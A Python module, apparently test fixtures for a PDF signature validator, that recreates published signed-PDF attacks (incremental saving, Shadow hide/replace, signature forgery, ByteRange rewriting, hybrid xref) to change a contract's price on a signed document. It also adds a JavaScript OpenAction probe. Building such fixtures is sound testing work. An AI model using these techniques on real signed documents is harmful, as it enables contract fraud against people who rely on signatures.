"""Signed documents as attackers change them: the classes of "1 Trillion Dollar Refund", "Shadow Attacks" and "Attacks on
PDF Certification" (Mladenov, Rohlmann and others, 2019-2021), made anew from our own contract.
"""

import io
import re
from collections.abc import Callable

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]


def updated(source: bytes, change: Change) -> bytes:
    """Append an incremental update, as any PDF program can."""
    writer = IncrementalPdfFileWriter(io.BytesIO(source))
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def field_of(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    fields = writer.root["/AcroForm"]["/Fields"]
    return next(
        each for each in map(fields.raw_get, range(len(fields))) if each.get_object().get("/T") == name
    )


def last_contents(source: bytes) -> tuple[int, int]:
    """Return where the hexadecimal digits of the last signature in the file begin and end."""
    ranges = re.findall(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+\d+\s*\]", source)
    before, after = max((int(a), int(b)) for a, b in ranges)
    return before + 1, after - 1


def flip(source: bytes, position: int, bit: int = 0) -> bytes:
    changed = bytearray(source)
    changed[position] ^= 1 << bit
    return bytes(changed)


# --- what a change may be --------------------------------------------------------------------------


def show(writer, drawn: bytes):
    """Let page 1 show something else."""
    page = writer.root["/Pages"]["/Kids"][0]
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=drawn))
    writer.update_container(page)


def new_page_text(writer):
    """Incremental saving attack: another price on page 1."""
    show(writer, b"BT /F1 18 Tf 72 770 Td (Page 1: the price is 9000 euros) Tj ET")


def same_object_new_text(writer):
    """Shadow replace: the stream that page 1 shows keeps its number and gets other content."""
    reference = writer.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    stream = reference.get_object()
    stream._data = b"BT /F1 18 Tf 72 770 Td (Page 1: the price is 9000 euros) Tj ET"
    stream._encoded_data = None
    writer.mark_update(reference)


def other_font(writer):
    """Shadow replace by font: the same bytes show other letters."""
    font = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"]["/F1"]
    font["/BaseFont"] = pdf_name("/Symbol")
    writer.update_container(font)


def overlay(writer):
    """Shadow hide, evil annotation: a white note covers the price."""
    page = writer.root["/Pages"]["/Kids"][0]
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (70, 760, 500, 800))),
            pdf_name("/Contents"): generic.TextStringObject("the price is 9 euros"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        }
    )
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", []), writer.add_object(note)])
    writer.update_container(page)


def page_removed(writer):
    pages = writer.root["/Pages"]
    pages["/Kids"] = generic.ArrayObject([pages["/Kids"].raw_get(0)])
    pages["/Count"] = generic.NumberObject(1)
    writer.update_container(pages)


def other_catalogue(writer):
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")}
    )
    writer.update_root()


def attachment(writer):
    names = generic.DictionaryObject({pdf_name("/EmbeddedFiles"): generic.DictionaryObject()})
    writer.root["/Names"] = names
    writer.update_root()


def filled(name: str, value: str = "Changed afterwards") -> Change:
    def change(writer):
        reference = field_of(writer, name)
        reference.get_object()["/V"] = generic.TextStringObject(value)
        writer.mark_update(reference)

    return change


def unsigned_field(name: str) -> Change:
    """Take a signature out of its field."""

    def change(writer):
        reference = field_of(writer, name)
        del reference.get_object()["/V"]
        writer.mark_update(reference)

    return change


def signature_set_to(name: str, value: Callable[[generic.DictionaryObject], object]) -> Change:
    """Universal signature forgery: replace the value of a signature field by a changed copy."""

    def change(writer):
        reference = field_of(writer, name)
        copy = generic.DictionaryObject(dict(reference.get_object()["/V"]))
        replaced = value(copy)
        reference.get_object()["/V"] = writer.add_object(replaced if replaced is not None else copy)
        writer.mark_update(reference)

    return change


def without(key: str):
    return lambda copy: copy.pop(pdf_name(key)) and None


def with_value(key: str, value: generic.PdfObject):
    def change(copy):
        copy[pdf_name(key)] = value

    return change


# --- whole files -----------------------------------------------------------------------------------


def rewritten(source: bytes) -> bytes:
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(source)) as pdf:
        pdf.save(output)
    return output.getvalue()


def page_replaced(source: bytes) -> bytes:
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(source)) as pdf:
        pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 18 Tf 72 770 Td (the price is 9000 euros) Tj ET")
        pdf.save(output, static_id=True)
    return output.getvalue()


def with_byte_range(source: bytes, numbers: Callable[[int, int, int], tuple[int, ...]]) -> bytes:
    """Rewrite the last ByteRange in place; its room is kept."""
    place = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\][ ]*", source))[-1]
    wanted = " ".join(map(str, numbers(*(int(each) for each in place.groups()))))
    text = b"/ByteRange [" + wanted.encode() + b"]"
    assert len(text) <= len(place.group()), "the rewritten range needs more room than there is"
    return source[: place.start()] + text.ljust(len(place.group())) + source[place.end() :]


def hybrid(source: bytes) -> bytes:
    """Append an update whose table of contents points to a second, hidden one."""
    start = int(source[source.rindex(b"startxref") + 9 :].split()[0])
    body = source + b"\n"
    stream_at = len(body)
    size = int(re.findall(rb"/Size (\d+)", source)[-1]) + 1
    entry = b"\x01" + stream_at.to_bytes(4) + b"\x00"
    body += b"%d 0 obj\n<</Type/XRef/W[1 4 1]/Index[%d 1]/Size %d/Length %d>>stream\n" % (
        size - 1,
        size - 1,
        size,
        len(entry),
    )
    body += entry + b"\nendstream\nendobj\n"
    table_at = len(body)
    root = re.findall(rb"/Root (\d+ 0 R)", source)[-1]
    body += b"xref\n0 0\ntrailer\n<</Size %d/Root %s/Prev %d/XRefStm %d>>\n" % (size, root, start, stream_at)
    return body + b"startxref\n%d\n%%%%EOF\n" % table_at
